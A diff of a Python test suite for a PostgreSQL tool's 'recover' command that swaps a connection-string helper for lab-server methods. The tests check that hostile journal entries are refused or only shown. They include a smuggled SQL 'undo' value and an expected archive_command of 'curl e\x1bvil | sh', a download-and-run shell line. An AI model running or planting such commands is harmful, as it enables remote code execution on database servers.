@@ -41,10 +41,6 @@ def run_directory(path: Path, target: str, *changes: dict[str, Any]) -> Path:
     return path
 
 
-def dsn_of(server: LabServer) -> str:
-    return f"[target]\ndsn = 'host=127.0.0.1 port={server.port} user=lab dbname=lab'\n"
-
-
 def refused(*words: str | Path, **variables: str) -> str:
     done = pgassay(*words, **variables)
     assert done.returncode == 1, (done.stdout, done.stderr)
@@ -85,7 +81,7 @@ def untouched(lab_server: LabServer) -> Iterator[None]:
 def test_recover_runs_nothing_that_stands_in_a_journal(
     lab_server: LabServer, tmp_path: Path, change: dict[str, Any], words: str
 ) -> None:
-    run = run_directory(tmp_path / "run", dsn_of(lab_server), change)
+    run = run_directory(tmp_path / "run", lab_server.target(), change)
     for more in ([], ["--yes"], ["--dry-run"]):
         line = refused("recover", run, *more, **lab_server.variables(), COLUMNS="500")
         assert "journal.jsonl, line 1: " in line
@@ -101,13 +97,13 @@ def test_what_the_own_record_lacks_is_shown_and_asked_for(
         "kind": "variant", "id": "2", "database": "lab", "name": "b", "part": 1, "parts": 1,
         "undo": f"{EVIL};\nSELECT 1",
     }  # fmt: skip
-    run = run_directory(tmp_path / "run", dsn_of(lab_server), hostile, variant)
+    run = run_directory(tmp_path / "run", lab_server.target(), hostile, variant)
     server = {**lab_server.variables(), "COLUMNS": "500"}
     shown = pgassay("recover", "--dry-run", run, **server)
     assert shown.returncode == 0, shown.stderr
     assert shown.stdout.splitlines() == [
         "to do (not in your own record): connect to the server by connection string"
-        f" host=127.0.0.1 port={lab_server.port} user=lab dbname=lab",
+        f" {lab_server.place()}",
         f"to do (not in your own record): run in database lab: {EVIL};\\nSELECT 1",
         "to do (not in your own record): setting archive_command:  → curl e\\x1bvil | sh",
     ]
@@ -138,7 +134,7 @@ def at_a_terminal(answer: str, *words: str | Path, **variables: str) -> tuple[in
 def test_a_user_at_a_terminal_says_yes_or_no(lab_server: LabServer, tmp_path: Path) -> None:
     with lab_server.admin() as session:
         session.execute("ALTER SYSTEM SET work_mem = '8MB'")
-    run = run_directory(tmp_path / "run", dsn_of(lab_server), SETTING)
+    run = run_directory(tmp_path / "run", lab_server.target(), SETTING)
     code, text = at_a_terminal("n", "recover", run, **lab_server.variables())
     assert (code, auto_conf(lab_server)) == (1, {"work_mem": "8MB"}), text
     code, text = at_a_terminal("y", "recover", run, **lab_server.variables())
@@ -269,7 +265,7 @@ def test_a_directory_that_others_may_write_is_refused(tmp_path: Path, file: str)
 def test_a_run_of_ones_own_is_put_back_without_a_question_and_says_first_what_it_does(
     lab_server: LabServer, tmp_path: Path
 ) -> None:
-    target = dsn_of(lab_server) + "allow_changes = true\naccept = ['commits', 'sessions']\n"
+    target = lab_server.target("allow_changes = true", "accept = ['commits', 'sessions']")
     spec, run = spec_file(tmp_path, target=target), tmp_path / "run"
     with watched(run, spec, **lab_server.variables()) as tool:
         tool.wait_for(lambda: len(tool.finished()) >= 1, "a finished trial")
